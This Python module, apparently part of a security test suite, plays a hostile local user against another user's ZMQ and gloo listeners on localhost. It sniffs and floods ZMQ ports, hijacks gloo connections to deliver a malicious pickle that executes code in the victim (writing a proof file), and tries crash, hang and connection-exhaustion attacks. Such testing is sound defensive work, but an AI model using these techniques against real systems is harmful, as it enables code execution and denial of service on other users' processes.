"""What another user tries: `python -m tests.security.attackers NAME UID`, as that user.

All that is known of the victim is its number, UID, and with it what /proc/net/tcp tells everybody.
"""

from __future__ import annotations

import contextlib
import os
import pickle
import secrets
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import zmq
from zmq.utils.monitor import parse_monitor_message

from tests.security.lines import serve

_LISTEN = b" 0A "
_TCP = Path("/proc/net/tcp")
_GIVEN_AWAY = Path("/proc/sys/net/ipv4/ip_local_port_range")  # gloo's listeners have such ports
_DONE = zmq.EVENT_HANDSHAKE_SUCCEEDED
_SETTLED = (
    _DONE
    | zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL
    | zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL
    | zmq.EVENT_HANDSHAKE_FAILED_AUTH
    | zmq.EVENT_DISCONNECTED  # by who takes no such socket
    | zmq.EVENT_CONNECT_RETRIED  # nobody has opened
)
_HANDSHAKE_MS = 2000  # who has not answered by then does not speak ZMQ
_DELIMITER = b"<IDS|MSG>"
_EVENTS_KEPT = 400
_KNOCK_S = 0.1  # then it tries anew


def ports_of(uid: int) -> set[int]:
    """The ports that a user listens at, as everybody may know."""
    rows = (line.split() for line in _TCP.read_bytes().splitlines() if line[33:37] == _LISTEN)
    return {int(row[1][-4:], 16) for row in rows if int(row[7]) == uid}


# ---- ZMQ --------------------------------------------------------------------------------------


class Sniffer(threading.Thread):
    """Subscribes to everything on each port, also on those that come later.

    `heard` counts messages by port, `kept` has the last ones, `settled` the ports where it is
    clear whether there is anything to hear.
    """

    def __init__(self, uid: int) -> None:
        super().__init__(daemon=True)
        self.heard: Counter[int] = Counter()
        self.kept: list[tuple[int, list[bytes]]] = []
        self.settled: set[int] = set()
        self._uid = uid
        self.start()

    def run(self) -> None:
        """Until the process ends."""
        context, poller = zmq.Context(), zmq.Poller()
        ports: dict[zmq.Socket[bytes], int] = {}
        monitors: dict[zmq.Socket[bytes], int] = {}
        while True:
            for port in ports_of(self._uid) - set(ports.values()):
                subscriber = context.socket(zmq.SUB)
                subscriber.setsockopt(zmq.SUBSCRIBE, b"")
                monitor = _connect(subscriber, port)
                ports[subscriber], monitors[monitor] = port, port
                poller.register(subscriber, zmq.POLLIN)
                poller.register(monitor, zmq.POLLIN)
            for ready, _ in poller.poll(100):
                parts = ready.recv_multipart()
                if ready in monitors:
                    parse_monitor_message(parts)
                    self.settled.add(monitors[ready])
                    continue
                self.heard[ports[ready]] += 1
                self.kept = [*self.kept[-_EVENTS_KEPT:], (ports[ready], parts)]


def unsigned(_: Sequence[list[bytes]]) -> list[list[bytes]]:
    """Messages in every shape, signed by nobody."""
    shapes = [[b"x"] * n for n in range(1, 9)] + [[b""] * n for n in range(1, 4)]
    bodies = [[], [b"sig"], [b"sig", *[b"{}"] * 4], [b"sig", *[b"\xff["] * 4], [b"", b"", b""]]
    shapes += [
        [*route, _DELIMITER, *body] for route in ([], [b"x"], [b"", b"x"]) for body in bodies
    ]
    return shapes


def replayed(heard: Sequence[list[bytes]]) -> list[list[bytes]]:
    """What was heard, word by word."""
    return list(heard)


def damaged(heard: Sequence[list[bytes]]) -> list[list[bytes]]:
    """What was heard, each time with another part missing, doubled or not what it was."""
    made = []
    for parts in heard:
        for n in range(len(parts)):
            made.append(parts[:n] + parts[n + 1 :])
            made.append([*parts[:n], parts[n][::-1] + b"\0", *parts[n + 1 :]])
            made.append([*parts[:n], parts[n], *parts[n:]])
    return [parts for parts in made if parts]


def oversized(_: Sequence[list[bytes]]) -> list[list[bytes]]:
    """One message of 64 MiB, and one of 10,000 parts."""
    return [
        [b"x", _DELIMITER, b"sig", bytes(1 << 26)],
        [b"x", _DELIMITER, b"sig", *[b"{}"] * 10_000],
    ]


def flood(_: Sequence[list[bytes]]) -> list[list[bytes]]:
    """10 MiB in unsigned messages."""
    return [[b"x", _DELIMITER, b"sig", secrets.token_bytes(1 << 20)] for _ in range(10)]


_KINDS = {kind.__name__: kind for kind in (unsigned, replayed, damaged, oversized, flood)}
_MOST_HEARD = 60  # that many are replayed and damaged


def send(uid: int, kind: str, heard: Sequence[list[bytes]] = ()) -> dict[str, int]:
    """Send messages of a kind to every port, as each sort of socket that sends unasked.

    Returns:
        How many messages there are, and how many times one was handed to a port that takes any.
    """
    messages = _KINDS[kind](heard[-_MOST_HEARD:])
    context, poller = zmq.Context(), zmq.Poller()
    waiting = {}
    for port in ports_of(uid):
        for sort in (zmq.XPUB, zmq.DEALER, zmq.PUSH):
            sender = context.socket(sort)
            sender.setsockopt(zmq.SNDTIMEO, 1000)
            sender.setsockopt(zmq.IMMEDIATE, 1)  # only to whom the handshake was done with
            monitor = _connect(sender, port)
            poller.register(monitor, zmq.POLLIN)
            waiting[monitor] = sender
    ready = []
    deadline = time.monotonic() + 2 * _HANDSHAKE_MS / 1000
    while waiting and time.monotonic() < deadline:
        for monitor, _ in poller.poll(100):
            poller.unregister(monitor)
            sender = waiting.pop(monitor)
            if parse_monitor_message(monitor.recv_multipart())["event"] == _DONE:
                ready.append(sender)
    taken = 0
    for sender in ready:
        if sender.type == zmq.XPUB and not sender.poll(1000):  # nobody subscribes there
            continue
        with contextlib.suppress(zmq.Again):  # it does not take any more
            for message in messages:
                sender.send_multipart(message)
                taken += 1
    context.destroy(linger=3000)  # the monitors too
    return {"messages": len(messages), "taken": taken}


def _connect(one: zmq.Socket[bytes], port: int) -> zmq.Socket[bytes]:
    """Connect; the socket that is returned tells once whether anything can come of it."""
    one.setsockopt(zmq.HANDSHAKE_IVL, _HANDSHAKE_MS)
    one.setsockopt(zmq.CONNECT_TIMEOUT, _HANDSHAKE_MS)
    one.setsockopt(zmq.RECONNECT_IVL, 1000)
    monitor = one.get_monitor_socket(_SETTLED)
    one.connect(f"tcp://127.0.0.1:{port}")
    return monitor


# ---- gloo --------------------------------------------------------------------------------------

_PREAMBLE = struct.Struct("<6Q")  # bytes, operation, slot, offset, length, offset there
_PINNED, _SEND, _READY_TO_SEND, _READY_TO_RECEIVE = range(4)


class Hijacker(threading.Thread):
    """Connects to each listener before the true peer does, and speaks gloo to who answers.

    It knocks again and again where nobody opens, and where it was thrown out. `how` is "obey"
    (takes what is sent, and hands over a pickle that leaves the file `proof` when it is read),
    "crash" (begins with an operation that nobody expects), "spin" (with one whose buffer never
    comes), or "lie" (says nothing, not even which connection it wants to be).
    """

    def __init__(self, uid: int, proof: str, last: int, how: str) -> None:
        super().__init__(daemon=True)
        self.read: list[str] = []  # what the victim has sent
        self.taken = 0  # connections on which it has said something
        self.knocked = 0  # connections that it has begun, and had
        self.made = 0
        self.looked = 0
        self.over = threading.Event()
        self._evil = pickle.dumps(_Evil(proof))
        self._uid, self._last, self._how = uid, last, how
        self._low = int(_GIVEN_AWAY.read_text().split()[0])
        self._poll = select.epoll()
        self._sockets: dict[int, socket.socket] = {}
        self._held: dict[tuple[int, int], tuple[int, float]] = {}  # port, number -> socket, since
        self._knocking: dict[int, tuple[int, int]] = {}
        self._open: dict[int, bytes] = {}
        self._handed: dict[int, list[int]] = {}
        self.start()

    def run(self) -> None:
        """Until `over` is set."""
        while not self.over.is_set():
            now = time.monotonic()
            for port in ports_of(self._uid):
                if port >= self._low:
                    self._knock(port, now)
            self.looked += 1
            for fd, event in self._poll.poll(0):
                if fd in self._knocking and event & select.EPOLLOUT:
                    self._enter(fd, *self._knocking.pop(fd))
                elif fd in self._open:
                    self._listen(fd)
        for one in self._sockets.values():
            one.close()

    def _knock(self, port: int, now: float) -> None:
        for number in range(self._last + 1):
            fd, since = self._held.get((port, number), (-1, 0.0))
            if fd in self._open or (fd in self._knocking and now < since + _KNOCK_S):
                continue
            self._drop(fd)
            one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            with contextlib.suppress(BlockingIOError):
                one.connect(("127.0.0.1", port))
            fd = one.fileno()
            self.knocked += 1
            self._sockets[fd], self._knocking[fd] = one, (port, number)
            # each at a time of its own, so that one comes soon after a door is opened
            self._held[port, number] = fd, now + _KNOCK_S * number / (self._last + 1)
            self._poll.register(fd, select.EPOLLOUT)

    def _enter(self, fd: int, port: int, number: int) -> None:
        first = {
            "crash": _PREAMBLE.pack(48 + 8, _SEND, 1 << 40, 0, 8, 0) + bytes(8),
            "spin": _PREAMBLE.pack(48 + 8, _PINNED, 1 << 20, 0, 8, 0) + bytes(8),
        }.get(self._how, b"")
        try:
            if self._how != "lie":
                self._sockets[fd].sendall(struct.pack("<q", number) + first)
        except OSError:
            self._drop(fd)
            return
        self.made += 1
        self._open[fd] = b""
        self._poll.modify(fd, select.EPOLLIN)

    def _listen(self, fd: int) -> None:
        one = self._sockets[fd]
        try:
            data = one.recv(1 << 16)
            if data:
                self.taken += not self._open[fd]
                one.setblocking(True)  # for what is sent
                self._open[fd] = self._answer(one, self._open[fd] + data)
                one.setblocking(False)
                return
        except OSError:
            pass
        self._drop(fd)

    def _drop(self, fd: int) -> None:
        self._open.pop(fd, None)
        self._knocking.pop(fd, None)
        self._handed.pop(fd, None)
        if one := self._sockets.pop(fd, None):
            one.close()

    def _answer(self, one: socket.socket, data: bytes) -> bytes:
        while len(data) >= _PREAMBLE.size:
            size, operation, slot, offset, length, there = _PREAMBLE.unpack(data[:48])
            if operation == _SEND:
                if len(data) < size:
                    break
                self.read.append(repr(data[48:size][:200]))
                data = data[size:]
                continue
            data = data[48:]
            if operation == _READY_TO_SEND:
                one.sendall(_PREAMBLE.pack(48, _READY_TO_RECEIVE, slot, offset, length, there))
            elif operation == _READY_TO_RECEIVE:
                content = self._content(one, length)
                one.sendall(_PREAMBLE.pack(48, _READY_TO_SEND, slot, offset, length, there))
                size = _PREAMBLE.size + length
                one.sendall(_PREAMBLE.pack(size, _SEND, slot, offset, length, there) + content)
        return data

    def _content(self, one: socket.socket, length: int) -> bytes:
        """As `all_gather_object` has it: the size of the pickle, an answer, the pickle."""
        handed = self._handed.setdefault(one.fileno(), [0, 0])
        handed[0] += 1
        if handed[0] <= 2:
            size = struct.pack("<q", len(self._evil)) if handed[0] == 1 else b""
            return size.ljust(length, b"\0")[:length]
        start, handed[1] = handed[1], handed[1] + length
        return self._evil[start : start + length].ljust(length, b"\0")


class _Evil:
    def __init__(self, proof: str) -> None:
        self._proof = proof

    def __reduce__(self) -> Any:
        return exec, (f"import os; open({self._proof!r}, 'a').write(str(os.getuid()) + ' ')",)


# ---- what each does when it is told ----------------------------------------------------------


def sniffer(uid: int) -> None:
    """Hears, and sends what `send` sends."""
    one = Sniffer(uid)

    def report() -> dict[str, Any]:
        kept = [" ".join(map(repr, parts))[:300] for _, parts in one.kept[-3:]]
        return {"heard": one.heard, "settled": sorted(one.settled), "kept": kept}

    def attack(kind: str) -> dict[str, int]:
        return send(uid, kind, [parts for _, parts in one.kept])

    serve({"report": report, "send": attack})


def hijacker(uid: int, proof: str, last: int, how: str) -> None:
    """Takes the place of ranks."""
    one = Hijacker(uid, proof, last, how)

    def report() -> dict[str, Any]:
        numbers = {"made": one.made, "taken": one.taken, "looked": one.looked}
        return {**numbers, "knocked": one.knocked, "read": one.read[-5:]}

    serve({"report": report})
    one.over.set()
    one.join()


def peeper(uid: int) -> None:
    """Looks at what the kernel and the file system tell of the victim."""
    del uid

    def read(paths: list[str]) -> list[str]:
        """Those that it can read, or list."""
        found = []
        for path in paths:
            with contextlib.suppress(OSError):
                if os.path.isdir(path):
                    os.listdir(path)
                else:
                    with open(path, "rb") as file:
                        file.read(1)
                found.append(path)
        return found

    serve({"read": read})


def crowd(uid: int, number: int) -> None:
    """Connects to whatever the victim listens at, and says nothing."""
    held: list[socket.socket] = []

    def connect() -> int:
        """Have so many connections with each listener, if it takes them; how many there are."""
        for port in ports_of(uid):
            with contextlib.suppress(OSError):
                for _ in range(number):
                    held.append(socket.create_connection(("127.0.0.1", port), timeout=0.2))
        return len(held)

    serve({"connect": connect})


if __name__ == "__main__":
    attackers: dict[str, Any] = {
        "sniffer": sniffer,
        "hijacker": lambda uid, proof, last, how: hijacker(uid, proof, int(last), how),
        "peeper": peeper,
        "crowd": lambda uid, number: crowd(uid, int(number)),
    }
    attackers[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
